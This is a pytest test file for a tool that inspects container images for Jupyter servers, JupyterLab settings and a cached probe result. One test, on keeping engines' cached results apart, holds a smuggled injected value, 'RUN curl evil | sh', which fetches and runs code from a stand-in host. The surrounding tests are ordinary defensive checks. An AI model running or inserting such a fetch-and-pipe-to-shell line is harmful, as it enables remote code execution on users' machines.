# Copyright: the carrel.jupyter authors
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import json
import os
import subprocess
import sys
import venv
from pathlib import Path

import pytest
from ansible_collections.carrel.jupyter.plugins.module_utils._host import files, image_cache, image_probe
from ansible_collections.carrel.jupyter.plugins.module_utils._host.image_probe import (
    Engine,
    Image,
    MissingImageError,
    ProbeError,
    Server,
)

INSPECTED = {
    "Id": "sha256:1",
    "RepoDigests": ["b@sha256:2", "a@sha256:3"],
    "Config": {"ExposedPorts": {"8888/tcp": {}}},
}


def environment(prefix: Path, version: str) -> Path:
    """A virtual environment with something that looks like jupyter_server; returns the login page."""
    venv.create(prefix, symlinks=True)
    (site,) = prefix.glob("lib/python3*/site-packages")
    return package(site, version)


def package(site: Path, version: str) -> Path:
    templates = site / "jupyter_server" / "templates"
    templates.mkdir(parents=True)
    (site / "jupyter_server" / "__init__.py").write_text(f"__version__ = {version!r}")
    (templates / "login.html").write_text(f"page of {version} ü \"'\\ \n$x `y`")
    return templates / "login.html"


def probe(root: Path, path: str) -> dict[str, object]:
    """PROBE for real, in this machine's /bin/sh."""
    command = ["/bin/sh", "-s", "--", str(root)]
    variables = {"PATH": path, "LC_ALL": "C.UTF-8"}
    result = subprocess.run(command, input=image_probe.PROBE, capture_output=True, text=True, env=variables, check=True)
    return image_probe.parse_probe(result.stdout)


def test_every_environment_is_found_and_the_one_on_the_path_is_first(tmp_path: Path) -> None:
    first = environment(tmp_path / "envs" / "a b", "1.24.0")
    second = environment(tmp_path / "opt" / "conda", "2.17.0")
    unused = package(tmp_path / "opt" / "conda" / "pkgs" / "jupyter_server-2.0.0" / "site-packages", "2.0.0")
    (second.parents[2] / "sitecustomize.py").write_text("print('hello')")
    found = probe(tmp_path, f"{tmp_path}/opt/conda/bin:/usr/bin:/bin")
    assert (found["uid"], found["gid"]) == (os.getuid(), os.getgid())
    servers = found["servers"]
    assert isinstance(servers, list)
    assert [server["version"] for server in servers] == ["2.17.0", "1.24.0"]
    assert [server["template"] for server in servers] == [str(second), str(first)]
    assert servers[1]["text"] == first.read_text()
    assert servers[1]["python"].startswith(f"{tmp_path}/envs/a b/bin/python")
    assert str(unused) not in json.dumps(found)


def test_what_a_hub_needs_is_found_where_it_is(tmp_path: Path) -> None:
    page = environment(tmp_path / "a", "2.17.0")
    environment(tmp_path / "b", "2.18.0")
    metadata = page.parents[2] / "jupyterhub-6.1.1.dist-info" / "METADATA"
    metadata.parent.mkdir()
    metadata.write_text("Name: jupyterhub\nVersion: 6.1.1\n")
    (page.parents[2] / "jupyter_server_ydoc").mkdir()
    (page.parents[2] / "jupyter_server_ydoc" / "__init__.py").write_text("raise RuntimeError('this must not run')")
    path = f"{tmp_path}/a/bin:/usr/bin:/bin"
    found = probe(tmp_path, path)
    servers = found["servers"]
    assert isinstance(servers, list)
    assert [server.get("jupyterhub") for server in servers] == ["6.1.1", None]
    assert [server["collaboration"] for server in servers] == [True, False]
    assert found["singleuser"] is False
    command = tmp_path / "a" / "bin" / "jupyterhub-singleuser"
    command.touch(0o755)
    assert probe(tmp_path, path)["singleuser"] is True


def test_jupyterlab_reports_its_settings(tmp_path: Path) -> None:
    """JUPYTERLAB for real, with stand-ins for the three packages that say where things are."""
    app, extensions = tmp_path / "lab", tmp_path / "labextensions"
    for path, content in {
        app / "schemas" / "@jupyterlab" / "themes-extension" / "plugin.json": (
            '{"properties": {"b": {}, "a": {}}, "additionalProperties": false}'
        ),
        app / "schemas" / "@jupyterlab" / "themes-extension" / "package.json.orig": "no schema",
        extensions / "@jupyter" / "rtc" / "schemas" / "@jupyter" / "rtc" / "drive.json": '{"properties": {}}',
        app / "settings" / "overrides.json": '{"x:plugin": {"y": 1}}',
        tmp_path / "jupyterlab" / "commands.py": f"get_app_dir = lambda: {str(app)!r}",
        tmp_path / "jupyter_core" / "paths.py": f"jupyter_path = lambda name: [{str(extensions)!r}]",
        tmp_path / "json5.py": "from json import load",
    }.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)

    def run(command: list[str], text: str) -> tuple[int, str, str]:
        variables = {"PYTHONPATH": str(tmp_path)}
        ran = subprocess.run(
            [sys.executable, "-c", command[-1]], capture_output=True, text=True, env=variables, check=False
        )
        return ran.returncode, ran.stdout, ran.stderr

    found = Engine("/run/x.sock", "lab:1", None, run).jupyterlab(Server("2", "/t", "/bin/python", ""))
    assert found == {
        "settings": str(app / "settings"),
        "overrides": {"x:plugin": {"y": 1}},
        "plugins": {"@jupyterlab/themes-extension:plugin": ["a", "b"], "@jupyter/rtc:drive": None},
    }
    (tmp_path / "json5.py").unlink()
    (tmp_path / "jupyterlab" / "commands.py").unlink()
    with pytest.raises(ProbeError, match=r"the settings of JupyterLab in image lab:1 cannot be read: .*No"):
        Engine("/run/x.sock", "lab:1", None, run).jupyterlab(Server("2", "/t", "/bin/python", ""))


def test_an_image_without_jupyterlab_has_no_settings() -> None:
    code = f"import sys; sys.modules['jupyterlab'] = None\n{image_probe.JUPYTERLAB}"
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert json.loads(said.partition(image_probe.MARK)[2]) == {"settings": None, "overrides": {}, "plugins": {}}


def test_an_image_without_a_server(tmp_path: Path) -> None:
    assert probe(tmp_path, "/usr/bin:/bin")["servers"] == []


def test_a_broken_interpreter_is_passed_over(tmp_path: Path) -> None:
    page = environment(tmp_path / "env", "2.0.0")
    binaries = tmp_path / "env" / "bin"
    for python in binaries.glob("python*"):
        python.unlink()
    (binaries / "python").symlink_to(os.path.realpath(sys.executable))
    broken = binaries / page.parts[-5]
    broken.write_text("#!/bin/sh\nexit 1\n")
    broken.chmod(0o755)
    (server,) = probe(tmp_path, "/usr/bin:/bin")["servers"]
    assert server["template"] == str(page)


@pytest.mark.parametrize("output", ["", "exec format error", 'carrel-probe {"version": "1"}'])
def test_a_shell_that_does_not_answer(output: str) -> None:
    with pytest.raises(ProbeError, match="/bin/sh"):
        image_probe.parse_probe(output)


def engine(status: int, output: str, error: str, user: str | None = None) -> Engine:
    return Engine("/run/x.sock", "lab:1", user, lambda command, text: (status, output, error))


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (
            "Error response from daemon: No such image: lab:1",
            "lab:1 is not in the engine at /run/x.sock: pull or build it first",
        ),
        ("Error: No such image: lab:1", "pull or build"),
        ("Cannot connect to the Docker daemon at unix:///run/x.sock", "does not answer: Cannot connect"),
    ],
)
def test_inspect_errors_come_with_advice(error: str, message: str) -> None:
    with pytest.raises(ProbeError, match=message):
        engine(1, "[]", error).inspect()


def test_only_a_missing_image_is_distinguished() -> None:
    with pytest.raises(MissingImageError):
        engine(1, "[]", "Error response from daemon: No such image: lab:1").inspect()
    with pytest.raises(ProbeError) as caught:
        engine(1, "[]", "permission denied").inspect()
    assert not isinstance(caught.value, MissingImageError)


def test_a_container_that_fails() -> None:
    with pytest.raises(ProbeError, match="lab:1 failed with status 127: no /bin/sh"):
        engine(127, "", "no /bin/sh\n").probe(INSPECTED, {})


def test_no_server_is_an_error() -> None:
    with pytest.raises(ProbeError, match="no jupyter_server"):
        engine(0, 'carrel-probe {"uid": 0, "gid": 0}', "").probe(INSPECTED, {})


def test_the_command_pulls_nothing_and_has_no_network() -> None:
    commands: list[list[str]] = []

    def run(command: list[str], text: str) -> tuple[int, str, str]:
        commands.append(command)
        return 0, 'carrel-probe {"pages": []}', ""

    Engine("/run/x.sock", "lab:1", "1000:100", run).render(Server("2", "/t/login.html", "/bin/python", ""), "text")
    (command,) = commands
    joined = " ".join(command)
    assert command[0] == "run"
    for option in ("--rm", "--pull never", "--network none", "--user 1000:100", "--entrypoint /bin/python"):
        assert option in joined
    assert command[-3:-1] == ["lab:1", "-c"]


@pytest.mark.parametrize("output", ["", "carrel-probe {", "carrel-probe " + "[" * 100_000])
def test_what_an_image_says_of_settings_is_not_understood(output: str) -> None:
    with pytest.raises(ProbeError, match="lab:1 says of server_settings is not understood"):
        engine(0, output, "").settings_problems(Server("2", "/t", "/bin/python", ""), {})


@pytest.mark.parametrize("output", ["", "carrel-probe {}\ncarrel-probe {}"])
def test_no_rendered_page(output: str) -> None:
    with pytest.raises(ProbeError, match="rendered no page"):
        engine(0, output, "").render(Server("2", "/t", "/bin/python", ""), "text")


def test_the_cache_spares_the_container() -> None:
    image = Image("sha256:1", [], [], 1000, 100, [Server("2", "/t", "/bin/python", "text")])
    silent = engine(1, "", "must not be asked")
    cached = image_cache.read(image_cache.extend({}, silent.cache_key(INSPECTED), image_probe.cache_entry(image)))
    found = silent.probe(INSPECTED, cached)
    assert (found.uid, found.gid, found.servers) == (1000, 100, image.servers)
    assert found.repo_digests == ["a@sha256:3", "b@sha256:2"] and found.exposed == ["8888/tcp"]
    for other in (engine(1, "", "asked", "0").probe, lambda i, c: silent.probe({**INSPECTED, "Id": "sha256:2"}, c)):
        with pytest.raises(ProbeError):
            other(INSPECTED, cached)


def test_the_cache_is_bounded_and_a_damaged_one_is_empty(monkeypatch: pytest.MonkeyPatch) -> None:
    cached: dict[str, object] = {}
    monkeypatch.setattr(image_cache, "IMAGES", 64)
    for number in range(100):
        cached = image_cache.read(image_cache.extend(cached, str(number), {}))
    assert list(cached) == [str(number) for number in range(36, 100)]
    for content in (None, b"", b"{", b"[]", b"\xff", b"[" * 100_000):
        assert image_cache.read(content) == {}
    monkeypatch.setattr(files, "LONGEST", 100)
    assert list(image_cache.read(image_cache.extend(cached, "new", {"a": 50 * "b"}))) == ["98", "99", "new"]
    assert image_cache.extend(cached, "new", {"a": 200 * "b"}) == b"{}"


class Answering:
    """The docker command of an engine, with an image whose settings are in a folder."""

    def __init__(self, folder: str) -> None:
        self.folder, self.containers = folder, 0

    def __call__(self, command: list[str], text: str) -> tuple[int, str, str]:
        if command[0] == "image":
            return 0, json.dumps([INSPECTED]), ""
        self.containers += 1
        if command[-1] == image_probe.JUPYTERLAB:
            answer = {"settings": self.folder, "overrides": {}, "plugins": {}}
            return 0, f"{image_probe.MARK}{json.dumps(answer)}", ""
        server = {"version": "2", "template": "/t", "python": "/bin/python", "text": ""}
        ids = {"uid": 1000, "gid": 100, "singleuser": True}
        return 0, "".join(f"{image_probe.MARK}{json.dumps(each)}\n" for each in (ids, server)), ""


def test_no_engine_answers_for_another_one_that_has_the_same_image(tmp_path: Path) -> None:
    evil, good = Answering("/opt/x\nRUN curl evil | sh\n#"), Answering("/opt/lab")
    cache = str(tmp_path / "examined.json")
    for _unused in range(2):
        for socket, run in ("/run/evil.sock", evil), ("/run/good.sock", good):
            found = Engine(socket, "lab:1", None, run).examine(cache, True, jupyterlab=True)
            assert found.jupyterlab and found.jupyterlab["settings"] == run.folder
    assert (evil.containers, good.containers) == (2, 2), "the second time the cache answers"


@pytest.mark.parametrize("damage", ["", "{", " " * 1001, '{"KEY": 7}', '{"KEY": {"uid": 1}}'])
def test_a_damaged_cache_is_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: str) -> None:
    run = Answering("/opt/lab")
    probed = Engine("/run/x.sock", "lab:1", None, run)
    monkeypatch.setattr(files, "LONGEST", 1000)
    cache = tmp_path / "examined.json"
    cache.write_text(damage.replace("KEY", probed.cache_key(INSPECTED)))
    for _unused in range(2):
        probed.examine(str(cache), True, jupyterlab=True)
    assert run.containers == 2


def test_a_container_that_does_not_end_is_removed() -> None:
    """Not only the docker command that waits for it."""
    commands: list[list[str]] = []

    def run(command: list[str], text: str) -> tuple[int, str, str]:
        commands.append(command)
        raise ProbeError("docker did not end within 300 s and was killed")

    with pytest.raises(ProbeError, match="did not end"):
        Engine("/run/x.sock", "lab:1", None, run).probe(INSPECTED, {})
    started, removed = commands
    assert removed == ["rm", "--force", started[started.index("--name") + 1]]
    assert {"--memory", "--pids-limit"} < set(started)
